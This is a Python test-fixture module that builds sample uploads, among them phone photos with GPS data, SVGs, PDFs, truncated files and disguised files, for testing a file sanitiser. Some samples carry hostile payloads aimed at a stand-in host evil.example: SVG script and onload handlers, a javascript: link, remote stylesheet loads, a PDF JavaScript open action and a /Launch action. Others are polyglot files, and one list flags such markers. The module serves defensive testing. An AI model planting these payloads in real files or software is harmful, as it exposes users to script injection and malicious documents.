"""Thirty files as people attach them, made anew for each run: photos, drawings, documents, damaged and hostile ones."""

import struct
import zlib
from base64 import b64encode
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from io import BytesIO
from typing import Any

import pillow_heif
from PIL import Image, ImageCms
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import DictionaryObject, NameObject, RectangleObject, StreamObject, TextStringObject

from tests.support.packed import zip_of

pillow_heif.register_heif_opener()

PLACE = b"GPS-PLACE-52.52N"  # stands in every photo's data; it must be nowhere afterwards
HOSTILE = (
    b"<script",
    b"javascript:",
    b"onload",
    b"foreignObject",
    b"evil.example",
    b"/JavaScript",
    b"/Launch",
    b"PK\x03\x04",
)


@dataclass(frozen=True)
class Sample:
    """One file: its name, how it is made, and what becomes of it.

    Either the name, kind and pixels of what is prepared, or a part of the sentence that refuses it; `early` says that
    the first bytes are enough for that.
    """

    name: str
    make: Callable[[], bytes]
    becomes: str = ""
    kind: str = ""
    pixels: tuple[int, int] | None = None
    refused: str = ""
    early: bool = False

    @property
    def data(self) -> bytes:
        """Its bytes, the same each time."""
        return _made(self.make)


@cache
def _made(make: Callable[[], bytes]) -> bytes:
    return make()


def _photo(width: int, height: int, mode: str = "RGB") -> Image.Image:
    """A picture with a red top left corner, so that turning it shows."""
    picture = Image.linear_gradient("L").resize((width, height)).convert("RGB")
    picture.paste((220, 30, 30), (0, 0, width // 4, height // 4))
    return picture.convert(mode)


def _exif(orientation: int = 1) -> bytes:
    exif = Image.Exif()
    exif[0x010F], exif[0x0112] = "Phone", orientation
    exif.get_ifd(0x8769)[0x9286] = b"ASCII\0\0\0" + PLACE
    place = exif.get_ifd(0x8825)
    place[1], place[2], place[3], place[4] = "N", (52.0, 31.0, 12.0), "E", (13.0, 24.0, 18.0)
    return exif.tobytes()


def _saved(picture: Image.Image, kind: str, **more: Any) -> bytes:  # noqa: ANN401 (as Pillow has it)
    out = BytesIO()
    picture.save(out, kind, **more)
    return out.getvalue()


def _phone_photo(width: int = 1600, height: int = 1200, orientation: int = 1, kind: str = "JPEG") -> bytes:
    return _saved(_photo(width, height), kind, exif=_exif(orientation), quality=80)


def _cmyk() -> bytes:
    return _saved(_photo(900, 600, "CMYK"), "JPEG", quality=80)


def _wide_gamut() -> bytes:
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    return _saved(_photo(800, 600), "JPEG", icc_profile=profile, exif=_exif())


def _moving(kind: str) -> bytes:
    frames = [Image.new("RGB", (60, 40), colour) for colour in ("red", "green", "blue")]
    comment = {"comment": PLACE} if kind == "GIF" else {}
    return _saved(frames[0], kind, save_all=True, append_images=frames[1:], duration=120, loop=0, **comment)


def _grey_16_bits() -> bytes:
    return _saved(
        Image.linear_gradient("L").resize((300, 200)).convert("I").point(lambda v: v * 257 + 0).convert("I;16"), "PNG"
    )


def _plain_png(side: int, rows: int) -> bytes:
    """A square PNG in one colour, as its header says; so many rows of it are there."""
    packer = zlib.compressobj(1)
    packed = b"".join(packer.compress(b"\0" + b"\0\x80\x80" * side) for _ in range(rows)) + packer.flush()
    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", packed) + _chunk(b"IEND", b"")


def _chunk(kind: bytes, data: bytes) -> bytes:
    return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")


def _svg(body: str, attributes: str = "") -> bytes:
    head = '<?xml version="1.0"?>\n<!-- made by hand -->\n<svg xmlns="http://www.w3.org/2000/svg" '
    xlink = 'xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 120 80" '
    return f'{head}{xlink}{attributes}>{body}<rect id="box" width="120" height="80" fill="#888"/></svg>'.encode()


def _svg_with_photo() -> bytes:
    photo = b64encode(_phone_photo(60, 40)).decode()
    return _svg(f'<image width="10" height="10" xlink:href="data:image/jpeg;base64,{photo}"/>')


def _pdf(change: Callable[[PdfWriter], object] = lambda _: None) -> bytes:
    """Two pages of which the first shows a text and a photo."""
    writer = PdfWriter()
    page = writer.add_blank_page(300, 200)
    writer.add_blank_page(300, 200)
    photo = StreamObject()
    photo._data = _phone_photo(60, 40)
    photo.update({
        NameObject("/Type"): NameObject("/XObject"), NameObject("/Subtype"): NameObject("/Image"),
        NameObject("/Filter"): NameObject("/DCTDecode"), NameObject("/ColorSpace"): NameObject("/DeviceRGB"),
    })  # fmt: skip
    font = {"/Type": "/Font", "/Subtype": "/Type1", "/BaseFont": "/Helvetica"}
    fonts = DictionaryObject(
        {NameObject("/F1"): DictionaryObject({NameObject(k): NameObject(v) for k, v in font.items()})}
    )
    shown = DictionaryObject({NameObject("/Photo"): writer._add_object(photo)})
    page[NameObject("/Resources")] = DictionaryObject({NameObject("/Font"): fonts, NameObject("/XObject"): shown})
    text = StreamObject()
    text._data = b"BT /F1 18 Tf 20 150 Td (Tomato soup 5.50) Tj ET q 60 0 0 40 20 20 cm /Photo Do Q"
    page[NameObject("/Contents")] = writer._add_object(text)
    writer.add_metadata({"/Author": "Anna", "/Keywords": PLACE.decode()})
    change(writer)
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def _launching(writer: PdfWriter) -> None:
    writer.add_attachment("evil.exe", b"MZ evil.example")
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("evil.example")}
    )
    link = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
        NameObject("/Rect"): RectangleObject((0, 0, 9, 9)), NameObject("/A"): action,
    })  # fmt: skip
    writer.add_annotation(0, link)


def _photo_and_page() -> bytes:
    script = b"<script>evil.example</script>"
    return _saved(_photo(90, 60), "JPEG", comment=script) + script


def _half(data: bytes) -> bytes:
    return data[: len(data) // 2]


_SHEET = (
    "<style>@import url(http://evil.example/a.css); .a{fill:url('http://evil.example/p')} .b{fill:red}</style>"
    "<image href='http://evil.example/x.png'/><use href='http://evil.example/#a'/>"
)
_FOREIGN = "<foreignObject><p>Hi</p></foreignObject><a href='javascript:alert(1)'><text>x</text></a>"
_RUNNING = "app.launchURL('http://evil.example')"
_INCOMPLETE = "ends too early"
SAMPLES = (
    Sample("IMG_0001.jpg", _phone_photo, "IMG_0001.jpg", "JPEG", (1600, 1200)),
    Sample("IMG_0002.JPG", lambda: _phone_photo(4032, 3024, 6), "IMG_0002.JPG", "JPEG", (2560, 3413)),
    Sample("IMG_2034.HEIC", lambda: _phone_photo(1280, 960, 1, "HEIF"), "IMG_2034.jpg", "JPEG", (1280, 960)),
    Sample(
        "Frühstück am Fenster.heic",
        lambda: _phone_photo(640, 480, 6, "HEIF"),
        "Fruhstuck-am-Fenster.jpg",
        "JPEG",
        (480, 640),
    ),
    Sample("for-print.jpg", _cmyk, "for-print.jpg", "JPEG", (900, 600)),
    Sample("colours.jpeg", _wide_gamut, "colours.jpeg", "JPEG", (800, 600)),
    Sample("poster.png", lambda: _plain_png(10_000, 10_000), "poster.png", "PNG", (2560, 2560)),
    Sample("shade.png", _grey_16_bits, "shade.png", "PNG", (300, 200)),
    Sample(
        "logo.webp",
        lambda: _saved(Image.new("RGBA", (200, 100), (9, 9, 9, 0)), "WEBP", exif=_exif()),
        "logo.webp",
        "WebP",
        (200, 100),
    ),
    Sample("photo.avif", lambda: _phone_photo(640, 480, 1, "AVIF"), "photo.avif", "AVIF", (640, 480)),
    Sample("spinner.gif", lambda: _moving("GIF"), "spinner.gif", "GIF", (60, 40)),
    Sample("wave.webp", lambda: _moving("WEBP"), "wave.webp", "WebP", (60, 40)),
    Sample("drawing.svg", lambda: _svg("<title>Oven</title>"), "drawing.svg", "SVG", (120, 80)),
    Sample(
        "script.svg",
        lambda: _svg("<script>fetch('//evil.example')</script>", 'onload="alert(1)"'),
        "script.svg",
        "SVG",
        (120, 80),
    ),
    Sample("foreign.svg", lambda: _svg(_FOREIGN), "foreign.svg", "SVG", (120, 80)),
    Sample("loading.svg", lambda: _svg(_SHEET), "loading.svg", "SVG", (120, 80)),
    Sample("collage.svg", _svg_with_photo, "collage.svg", "SVG", (120, 80)),
    Sample("menu.pdf", _pdf, "menu.pdf", "PDF"),
    Sample(
        "script.pdf", lambda: _pdf(lambda writer: writer.add_open_action(JavaScript(_RUNNING))), "script.pdf", "PDF"
    ),
    Sample("launch.pdf", lambda: _pdf(_launching), "launch.pdf", "PDF"),
    Sample(
        "locked.pdf",
        lambda: _pdf(lambda writer: writer.encrypt("secret", algorithm="RC4-128")),
        refused="locked by a password",
    ),
    Sample("cut.jpg", lambda: _half(_phone_photo()), refused=_INCOMPLETE),
    Sample("cut.heic", lambda: _half(_phone_photo(640, 480, 1, "HEIF")), refused="is "),
    Sample("cut.pdf", lambda: _half(_pdf()), refused=_INCOMPLETE),
    Sample("too-large.png", lambda: _plain_png(60_000, 1), refused="60,000 × 60,000 pixels"),
    Sample(
        "picture-and-archive.gif",
        lambda: _moving("GIF") + zip_of({"a.class": b"x"}),
        "picture-and-archive.gif",
        "GIF",
        (60, 40),
    ),
    Sample("picture-and-page.jpg", _photo_and_page, "picture-and-page.jpg", "JPEG", (90, 60)),
    Sample("scan.jpg", lambda: _saved(_photo(300, 200), "PNG"), "scan.png", "PNG", (300, 200)),
    Sample("holiday.jpg", lambda: b"MZ\x90\0" + b"\0" * 600, refused="It is a program", early=True),
    Sample(
        "page.png",
        lambda: b"<!DOCTYPE html><html><script>alert(1)</script></html>",
        refused="It is a web page",
        early=True,
    ),
)
GOOD = tuple(sample for sample in SAMPLES if not sample.refused)
BAD = tuple(sample for sample in SAMPLES if sample.refused)
